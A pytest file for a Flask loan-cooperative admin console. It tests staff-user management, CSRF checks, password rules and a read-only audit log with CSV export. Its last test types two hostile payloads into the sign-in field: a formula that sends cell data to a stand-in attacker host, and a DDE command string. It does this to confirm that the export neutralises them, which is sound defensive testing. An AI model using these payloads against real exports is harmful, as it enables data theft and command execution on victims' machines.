"""Staff users (admins only) and the audit log (compliance, auditors, admins), as a browser
uses them: every change one audited service call, the audit log read-only, filterable and
exported as CSV by the roles that may read it."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from app.extensions import db
from app.models import AuditLog, StaffUser
from app.services.audit import audit_record
from app.services.permissions import PermissionDenied
from app.services.staff import staff_add, staff_set_role
from tests.helpers import PASSWORD, login, staff
from tests.helpers import browse as _browse
from tests.helpers import csrf_token as _csrf_token

OTHERS = ["loan_officer", "branch_manager", "compliance", "auditor"]
READERS = ["compliance", "auditor", "admin"]


def browse(client: FlaskClient, path: str, method: str = "GET", **kwargs: object):  # noqa: ANN201
    db.session.commit()  # SQLite: the test's read transaction would hold the write lock
    return _browse(client, path, method, **kwargs)


def csrf_token(client: FlaskClient) -> str:
    db.session.commit()
    return _csrf_token(client)


def signed_in(app: Flask, role: str) -> FlaskClient:
    client = app.test_client()
    db.session.commit()
    login(client, staff(role))
    return client


def user(email: str) -> StaffUser:
    db.session.expire_all()
    return db.session.scalar(select(StaffUser).where(StaffUser.email == email))


def audits(action: str) -> list[AuditLog]:
    return db.session.scalars(
        select(AuditLog).where(AuditLog.action == action).order_by(AuditLog.id)
    ).all()


def manage(client: FlaskClient, email: str, action: str, **fields: str):  # noqa: ANN201
    data = {"csrf_token": csrf_token(client), "action": action, **fields}
    target = user(email).id
    return browse(
        client, f"/admin/staffuser/manage/{target}", "POST", data=data, follow_redirects=True
    )


def can_sign_in(app: Flask, email: str, password: str = PASSWORD) -> bool:
    db.session.commit()
    reply = login(app.test_client(), email, password)
    return reply.status_code == 302


# -- staff users ---------------------------------------------------------------------------


@pytest.mark.parametrize("role", OTHERS)
def test_only_admins_open_the_staff_pages(app: Flask, role: str) -> None:
    client = signed_in(app, role)
    target = user(staff("admin")).id
    for path in (
        "/admin/staffuser/",
        "/admin/staffuser/add",
        f"/admin/staffuser/details/?id={target}",
    ):
        assert browse(client, path).status_code == 403, path
    token = csrf_token(client)
    added = browse(
        client,
        "/admin/staffuser/add",
        "POST",
        data={"csrf_token": token, "email": "x@sacco.test", "role": "admin", "password": "p" * 12},
    )
    changed = browse(
        client,
        f"/admin/staffuser/manage/{target}",
        "POST",
        data={"csrf_token": token, "action": "deactivate"},
    )
    assert added.status_code == 403 and changed.status_code == 403
    assert user("x@sacco.test") is None and user("admin@sacco.test").active
    assert {row.after["needs"] for row in audits("access.denied")} == {"staff.manage"}


def test_the_staff_list_and_page_never_show_a_password_hash(app: Flask) -> None:
    client = signed_in(app, "admin")
    officer = user(staff("loan_officer"))
    for path in ("/admin/staffuser/", f"/admin/staffuser/details/?id={officer.id}"):
        html = browse(client, path).get_data(as_text=True)
        assert "loan.officer@sacco.test" in html
        assert officer.password_hash not in html
        assert "password_hash" not in html.lower() and "password hash" not in html.lower()
        assert "scrypt:" not in html and "pbkdf2:" not in html


def test_an_admin_adds_a_staff_user_who_can_then_sign_in(app: Flask) -> None:
    client = signed_in(app, "admin")
    page = browse(client, "/admin/staffuser/").get_data(as_text=True)
    assert 'href="/admin/staffuser/add"' in page
    reply = browse(
        client,
        "/admin/staffuser/add",
        "POST",
        data={
            "csrf_token": csrf_token(client),
            "email": "Wanjiru.K@Sacco.test",
            "name": "Wanjiru Kamau",
            "role": "compliance",
            "password": "first-password-9",
        },
        follow_redirects=True,
    )
    assert "wanjiru.k@sacco.test can sign in now as compliance." in reply.get_data(as_text=True)
    added = user("wanjiru.k@sacco.test")
    assert (added.name, added.role, added.active) == ("Wanjiru Kamau", "compliance", True)
    [row] = audits("staff.add")[-1:]
    assert (row.actor, row.object_id, row.after) == (
        "staff:admin@sacco.test",
        "wanjiru.k@sacco.test",
        {"role": "compliance"},
    )
    assert can_sign_in(app, "wanjiru.k@sacco.test", "first-password-9")


@pytest.mark.parametrize(
    ("email", "password", "words"),
    [
        (
            "loan.officer@sacco.test",
            "long-enough-pw",
            "staff user loan.officer@sacco.test exists already",
        ),
        ("new@sacco.test", "short", "password must be at least 10 characters"),
        ("not-an-email", "long-enough-pw", "not an email address"),
        # issue 17, item 15: long enough, but guessable
        ("new@sacco.test", "aaaaaaaaaa", "password is too easy to guess: repeats like"),
        ("new@sacco.test", "Password2026", "similar to a commonly used password"),
    ],
)
def test_a_staff_user_that_cannot_be_added_is_refused_in_words(
    app: Flask, email: str, password: str, words: str
) -> None:
    staff("loan_officer")
    client = signed_in(app, "admin")
    before = db.session.scalar(select(func.count()).select_from(StaffUser))
    reply = browse(
        client,
        "/admin/staffuser/add",
        "POST",
        data={
            "csrf_token": csrf_token(client),
            "email": email,
            "role": "auditor",
            "password": password,
        },
    )
    assert reply.status_code == 200 and words in reply.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(StaffUser)) == before


def test_an_admin_changes_a_role_and_it_is_audited(app: Flask) -> None:
    client = signed_in(app, "admin")
    email = staff("loan_officer")
    reply = manage(client, email, "role", role="branch_manager")
    assert f"{email} is now branch manager." in reply.get_data(as_text=True)
    assert user(email).role == "branch_manager"
    [row] = audits("staff.role_change")
    assert (row.actor, row.object_id, row.before, row.after) == (
        "staff:admin@sacco.test",
        email,
        {"role": "loan_officer"},
        {"role": "branch_manager"},
    )


def test_the_last_active_admin_keeps_the_admin_role(app: Flask) -> None:
    client = signed_in(app, "admin")
    reply = manage(client, "admin@sacco.test", "role", role="auditor")
    assert (
        "admin@sacco.test is the last active admin: taking their admin role would leave no one "
        "to manage staff users. Add another admin first."
    ) in reply.get_data(as_text=True)
    assert user("admin@sacco.test").role == "admin" and audits("staff.role_change") == []

    # A second admin who is deactivated does not count; an active one does.
    second = "second.admin@sacco.test"
    staff_add(email=second, role="admin", password=PASSWORD)
    reply = manage(client, second, "deactivate")
    assert f"{second} is deactivated." in reply.get_data(as_text=True)
    assert "last active admin" in manage(
        client, "admin@sacco.test", "role", role="auditor"
    ).get_data(as_text=True)
    manage(client, second, "reactivate")
    assert "is now auditor" in manage(client, "admin@sacco.test", "role", role="auditor").get_data(
        as_text=True
    )
    assert user("admin@sacco.test").role == "auditor"


def test_an_admin_deactivates_and_reactivates_a_staff_user(app: Flask) -> None:
    email = staff("branch_manager")
    client = signed_in(app, "admin")
    victim = app.test_client()
    db.session.commit()
    login(victim, email)
    assert browse(victim, "/admin/loan/").status_code == 200
    reply = manage(client, email, "deactivate")
    assert f"{email} is deactivated." in reply.get_data(as_text=True)
    assert user(email).active is False
    # The session they had open is over too: the next page sends them to sign in.
    assert "/admin/login" in browse(victim, "/admin/loan/").headers["Location"]
    assert not can_sign_in(app, email)
    [row] = audits("staff.deactivate")
    assert (row.actor, row.object_id, row.before, row.after) == (
        "staff:admin@sacco.test",
        email,
        {"active": True},
        {"active": False},
    )
    assert "Reactivate" in browse(
        client, f"/admin/staffuser/details/?id={user(email).id}"
    ).get_data(as_text=True)
    reply = manage(client, email, "reactivate")
    assert f"{email} is active again." in reply.get_data(as_text=True)
    assert can_sign_in(app, email)
    assert len(audits("staff.reactivate")) == 1


def test_an_admin_cannot_deactivate_themself(app: Flask) -> None:
    client = signed_in(app, "admin")
    me = user("admin@sacco.test")
    page = browse(client, f"/admin/staffuser/details/?id={me.id}").get_data(as_text=True)
    assert "You cannot deactivate yourself; another admin can." in page
    assert 'value="deactivate"' not in page
    reply = manage(client, "admin@sacco.test", "deactivate")  # typed in anyway
    assert "Not done: You cannot deactivate yourself; another admin can." in reply.get_data(
        as_text=True
    )
    assert user("admin@sacco.test").active and audits("staff.deactivate") == []


def test_an_admin_resets_a_password_and_the_audit_row_does_not_hold_it(app: Flask) -> None:
    email = staff("auditor")
    client = signed_in(app, "admin")
    old_hash = user(email).password_hash
    assert "at least 10 characters" in manage(
        client, email, "reset_password", password="short"
    ).get_data(as_text=True)
    assert "too easy to guess: this is a top-100 common password" in manage(
        client, email, "reset_password", password="1234567890"
    ).get_data(as_text=True)
    assert user(email).password_hash == old_hash
    reply = manage(client, email, "reset_password", password="brand-new-pass-7")
    assert f"The password of {email} is reset and their sessions are ended." in reply.get_data(
        as_text=True
    )
    assert can_sign_in(app, email, "brand-new-pass-7") and not can_sign_in(app, email)
    [row] = audits("staff.password_reset")
    assert row.actor == "staff:admin@sacco.test" and row.object_id == email
    assert "brand-new-pass-7" not in json.dumps([row.before, row.after, row.note])


def test_staff_changes_without_the_csrf_token_change_nothing(app: Flask) -> None:
    email = staff("loan_officer")
    client = signed_in(app, "admin")
    target = user(email).id
    for action, extra in (
        ("deactivate", {}),
        ("role", {"role": "admin"}),
        ("reset_password", {"password": "brand-new-pass-7"}),
    ):
        browse(
            client, f"/admin/staffuser/manage/{target}", "POST", data={"action": action, **extra}
        )
    browse(
        client,
        "/admin/staffuser/add",
        "POST",
        data={"email": "sneaky@sacco.test", "role": "admin", "password": "p" * 12},
    )
    after = user(email)
    assert (after.active, after.role) == (True, "loan_officer") and can_sign_in(app, email)
    assert user("sneaky@sacco.test") is None
    assert (
        db.session.scalar(
            select(func.count())
            .select_from(AuditLog)
            .where(AuditLog.action.like("staff.%"))
            .where(AuditLog.action.not_in(("staff.login", "staff.add")))
        )
        == 0
    )


def test_staff_services_check_the_permission_themselves(app: Flask) -> None:
    manager = user(staff("branch_manager"))
    officer = user(staff("loan_officer"))
    with pytest.raises(PermissionDenied, match="branch manager staff cannot manage staff users"):
        staff_set_role(user_id=officer.id, role="admin", staff=manager)
    assert user(officer.email).role == "loan_officer"


# -- the audit log ---------------------------------------------------------------------------


def seed_audit() -> None:
    rows = [
        # (when in UTC, actor, action, type, id) - 21:30 UTC on the 19th is the 20th in Nairobi
        (
            datetime(2026, 11, 19, 21, 30, tzinfo=UTC),
            "staff:a@sacco.test",
            "loan.approve",
            "loan",
            "L0001",
        ),
        (datetime(2026, 11, 20, 9, 5, 7, tzinfo=UTC), "system", "penalty.charge", "loan", "L0002"),
        (
            datetime(2026, 11, 21, 6, 0, tzinfo=UTC),
            "staff:b@sacco.test",
            "member.edit",
            "member",
            "M000001",
        ),
    ]
    for at, who, action, kind, object_id in rows:
        row = audit_record(
            actor=who,
            action=action,
            object_type=kind,
            object_id=object_id,
            before={"status": "submitted"} if action == "loan.approve" else None,
            after={"status": "approved", "note": 'good, "steady" payer'}
            if action == "loan.approve"
            else None,
        )
        row.at = at
    db.session.commit()


@pytest.mark.parametrize("role", ["loan_officer", "branch_manager"])
def test_the_audit_log_and_its_export_are_closed_to_other_roles(app: Flask, role: str) -> None:
    seed_audit()
    client = signed_in(app, role)
    assert browse(client, "/admin/auditlog/").status_code == 403
    export = browse(client, "/admin/auditlog/export/csv/")
    assert export.status_code == 403 and "L0001" not in export.get_data(as_text=True)
    assert browse(client, "/admin/auditlog/details/?id=1").status_code == 403
    paths = {row.object_id for row in audits("access.denied")}
    assert "/admin/auditlog/export/csv/" in paths


def filter_arg(html: str, group: str, operation: str) -> str:
    """The URL argument of one of the list's filters, as the page's filter menu holds it."""
    data = re.search(r'id="filter-groups-data" class="d-none">(.*?)</div>', html).group(1)
    groups = json.loads(data.replace("&#34;", '"').replace("&quot;", '"'))
    [found] = [f["arg"] for f in groups[group] if f["operation"] == operation]
    return f"flt0_{found}"


@pytest.mark.parametrize("role", READERS)
def test_the_audit_log_is_read_newest_first_in_kenyan_time(app: Flask, role: str) -> None:
    seed_audit()
    client = signed_in(app, role)
    reply = browse(client, "/admin/auditlog/")
    assert reply.status_code == 200
    html = reply.get_data(as_text=True)
    # The sign-in is newest; then the seeded rows from the 21st back to the 19th.
    assert html.index("M000001") < html.index("L0002") < html.index("L0001")
    assert "2026-11-20 00:30" in html  # 21:30 UTC, to the minute
    assert "/admin/auditlog/new/" not in html and "/admin/auditlog/edit/" not in html
    assert "/admin/auditlog/export/csv/" in html


def test_the_audit_log_filters_by_actor_action_object_and_kenyan_day(app: Flask) -> None:
    seed_audit()
    client = signed_in(app, "auditor")
    html = browse(client, "/admin/auditlog/").get_data(as_text=True)

    def listed(arg: str, value: str) -> set[str]:
        page = browse(client, f"/admin/auditlog/?{arg}={value}").get_data(as_text=True)
        return {oid for oid in ("L0001", "L0002", "M000001") if oid in page}

    assert listed(filter_arg(html, "Actor", "equals"), "system") == {"L0002"}
    assert listed(filter_arg(html, "Action", "equals"), "member.edit") == {"M000001"}
    assert listed(filter_arg(html, "Object", "equals"), "loan") == {"L0001", "L0002"}
    assert listed(filter_arg(html, "Object id", "equals"), "L0001") == {"L0001"}
    # The 20th in Nairobi holds 21:30 UTC on the 19th and 09:05 UTC on the 20th.
    assert listed(filter_arg(html, "At", "on (Kenyan date)"), "2026-11-20") == {"L0001", "L0002"}
    assert listed(filter_arg(html, "At", "from (Kenyan date)"), "2026-11-21") == {"M000001"}
    assert listed(filter_arg(html, "At", "up to and including"), "2026-11-19") == set()


def test_the_audit_log_cannot_be_changed_from_the_console(app: Flask) -> None:
    seed_audit()
    client = signed_in(app, "admin")
    row_id = db.session.scalar(select(AuditLog.id).where(AuditLog.object_id == "L0001"))
    token = csrf_token(client)
    browse(client, "/admin/auditlog/delete/", "POST", data={"csrf_token": token, "id": row_id})
    browse(
        client,
        f"/admin/auditlog/edit/?id={row_id}",
        "POST",
        data={"csrf_token": token, "actor": "nobody", "action": "x", "object_type": "x"},
    )
    db.session.expire_all()
    kept = db.session.get(AuditLog, row_id)
    assert (kept.actor, kept.action) == ("staff:a@sacco.test", "loan.approve")


@pytest.mark.parametrize("role", READERS)
def test_the_audit_log_exports_as_csv(app: Flask, role: str) -> None:
    seed_audit()
    client = signed_in(app, role)
    html = browse(client, "/admin/auditlog/").get_data(as_text=True)
    arg = filter_arg(html, "Object", "equals")
    reply = browse(client, f"/admin/auditlog/export/csv/?{arg}=loan")
    assert reply.status_code == 200 and reply.mimetype == "text/csv"
    assert re.search(
        r"attachment;filename=audit-log-\d{4}-\d\d-\d\d-\d{4}\.csv",
        reply.headers["Content-Disposition"],
    )
    rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True))))
    assert rows[0] == [
        "Id",
        "At (Kenyan time)",
        "Actor",
        "Action",
        "Object",
        "Object id",
        "Before",
        "After",
        "Note",
    ]
    assert [r[5] for r in rows[1:]] == ["L0002", "L0001"]  # the filter kept, newest first
    approve = rows[2]
    assert approve[1:6] == [
        "2026-11-20 00:30:00",
        "staff:a@sacco.test",
        "loan.approve",
        "loan",
        "L0001",
    ]
    assert json.loads(approve[6]) == {"status": "submitted"}
    assert json.loads(approve[7]) == {"status": "approved", "note": 'good, "steady" payer'}
    assert rows[1][1] == "2026-11-20 12:05:07" and rows[1][6:] == ["", "", ""]


def test_an_admin_sets_an_officers_accept_limit_and_clears_it(app: Flask) -> None:
    client = signed_in(app, "admin")
    officer = staff("loan_officer")

    page = manage(client, officer, "limit", limit="25,000").get_data(as_text=True)
    assert f"{officer} may accept promises and settlements up to KES 25,000.00 alone." in page
    assert user(officer).accept_limit == Decimal("25000.00")
    bad = manage(client, officer, "limit", limit="12.345").get_data(as_text=True)
    assert "Not done:" in bad
    assert user(officer).accept_limit == Decimal("25000.00")  # refused: unchanged
    cleared = manage(client, officer, "limit", limit=" ").get_data(as_text=True)
    assert f"{officer} has no limit of their own." in cleared
    assert user(officer).accept_limit is None
    rows = audits("staff.accept_limit")
    assert [(r.before["accept_limit"], r.after["accept_limit"]) for r in rows] == [
        (None, "25000.00"),
        ("25000.00", None),
    ]


def test_a_formula_typed_as_an_email_at_sign_in_is_text_in_the_audit_export(app: Flask) -> None:
    """Issue 17, item 12: what a stranger types at the login page reaches the audit log,
    and the audit export must not hand it to a spreadsheet as a formula."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    db.session.commit()
    stranger = app.test_client()
    assert login(stranger, formula, "anything-at-all-1").status_code == 200
    login(stranger, "@SUM(1+1)*cmd|' /C calc'!A0", "anything-at-all-1")
    client = signed_in(app, "auditor")

    reply = browse(client, "/admin/auditlog/export/csv/")

    rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True))))
    failed = [r for r in rows[1:] if r[3] == "staff.login_failed"]
    cells = {r[5] for r in failed}
    assert "'" + formula.lower() in cells  # emails are kept lower-cased
    assert "'@sum(1+1)*cmd|' /c calc'!a0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    assert {r[7] for r in failed} == {'{"address": "127.0.0.1", "outcome": "unknown email"}'}
